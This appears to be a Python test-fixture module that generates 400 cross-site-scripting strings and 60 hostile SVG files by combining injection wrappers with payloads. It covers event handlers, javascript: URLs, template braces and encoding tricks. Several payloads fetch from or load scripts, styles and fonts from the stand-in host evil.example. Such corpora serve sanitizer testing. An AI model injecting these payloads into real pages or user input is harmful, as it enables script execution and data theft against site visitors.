"""Words and drawings of people who want a page to do what they say: each tries to open a dialog or to ask somebody."""

from itertools import product

_WORK = (
    "alert(1)",
    "alert`1`",
    "window.pwned=1",
    "fetch('https://evil.example/x')",
    "top.document.title='pwned'",
    "eval(atob('YWxlcnQoMSk='))",
    "import('https://evil.example/m.js')",
    "new Image().src='https://evil.example/i'",
)
_AROUND = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</SCRIPT ><script>{}</script>",
    "<!--<script>{}</script>-->",
    "--><script>{}</script>",
    '<img src=x onerror="{}">',
    '"><img src=x onerror={}>',
    "'><img src=x onerror='{}'>",
    '<svg onload="{}">',
    "<svg><script>{}</script></svg>",
    '<svg><animate onbegin="{}" attributeName=x dur=1s></svg>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}" autofocus>x</a>',
    '<body onload="{}">',
    '<details open ontoggle="{}">',
    '<input autofocus onfocus="{}">',
    '<video><source onerror="{}"></video>',
    '<style onload="{}"></style>',
    '<link rel=stylesheet href=x onerror="{}">',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<math><mtext></mtext><style><img src=x onerror="{}"></style></math>',
    "<template><script>{}</script></template>",
    '<form action="javascript:{}"><button autofocus>x</button></form>',
    '<base href="javascript:{}//">',
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    '" onmouseover="{}" x="',
    "' autofocus onfocus='{}' x='",
    "`${{{}}}`",
    "{{{{{}}}}}",
    "{{% {} %}}",
    "${{{}}}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;img src=x onerror={}&#62;",
    "\u2028{}\u2029</script><script>{}",
    "\x00<scr\x00ipt>{}</scr\x00ipt>",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "]]><script>{}</script>",
    "*/</style><script>{}</script>",
    "'-{}-'",
    '";{}//',
    '\\";{}//',
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</noscript><script>{}</script>",
)

XSS = tuple(
    around.replace("{}", work).replace("{{", "{").replace("}}", "}") for around, work in product(_AROUND, _WORK)
)
"""400 of them."""

_HEAD = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="40"'
_DRAWN = (
    "<script>{}</script>",
    "<script type='text/ecmascript'><![CDATA[{}]]></script>",
    "<script href='https://evil.example/x.js'/>",
    "<script xlink:href='data:text/javascript,{}'/>",
    "<image href='https://evil.example/i.png' width='9' height='9'/>",
    "<image xlink:href='x' onerror=\"{}\"/>",
    "<foreignObject width='60' height='40'><body xmlns='http://www.w3.org/1999/xhtml'><script>{}</script></body></foreignObject>",
    "<foreignObject width='60' height='40'><iframe xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example/'/></foreignObject>",
    "<foreignObject width='60' height='40'><img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror=\"{}\"/></foreignObject>",
    "<a xlink:href=\"javascript:{}\"><rect width='60' height='40'/></a>",
    "<use xlink:href='https://evil.example/x.svg#a'/>",
    "<use href=\"data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' id='a' onload='{}'/&gt;#a\"/>",
    "<style>@import 'https://evil.example/x.css'; rect{fill:url(https://evil.example/f)}</style><rect width='60' height='40'/>",
    "<animate attributeName='href' values=\"javascript:{}\" begin='0s' onbegin=\"{}\"/>",
    "<set attributeName='onload' to=\"{}\" begin='0s'/>",
    "<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>{}</handler>",
    "<rect width='60' height='40' onload=\"{}\" onfocus=\"{}\" onmouseover=\"{}\" tabindex='0'/>",
    "<filter id='f'><feImage href='https://evil.example/x.svg'/></filter><rect width='60' height='40' filter='url(#f)'/>",
    "<video xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example/v.mp4' autoplay='' onerror=\"{}\"/>",
    "<text font-family='evil'><tspan onclick=\"{}\">x</tspan></text><style>@font-face{font-family:evil;src:url(https://evil.example/f.woff)}</style>",
)
_SAID = ("alert(1)", "parent.pwned=1", "fetch('https://evil.example/s')")

SVGS = tuple(
    f'<svg {_HEAD} onload="{said}">{inside.replace("{}", said)}</svg>'.encode()
    for inside, said in product(_DRAWN, _SAID)
)
"""60 of them."""
